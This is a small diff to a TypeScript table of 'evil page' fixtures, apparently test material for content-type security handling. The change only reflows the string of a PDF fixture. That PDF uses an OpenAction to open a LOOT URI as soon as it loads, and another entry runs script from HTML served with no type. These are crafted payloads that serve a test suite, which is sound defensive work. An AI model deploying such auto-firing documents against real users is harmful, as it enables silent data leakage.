@@ -106,7 +106,9 @@ const PAGES: Readonly<Record<string, EvilPage>> = {
   'no type at all': { type: '', body: `<!doctype html><script>${GO}</script>` },
   PDF: {
     type: 'application/pdf',
-    body: `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${LOOT})>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n`,
+    body:
+      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${LOOT})>>>>endobj\n2 0 ` +
+      'obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n',
     maybeHarmless: true,
   },
   'PDF inside': html(
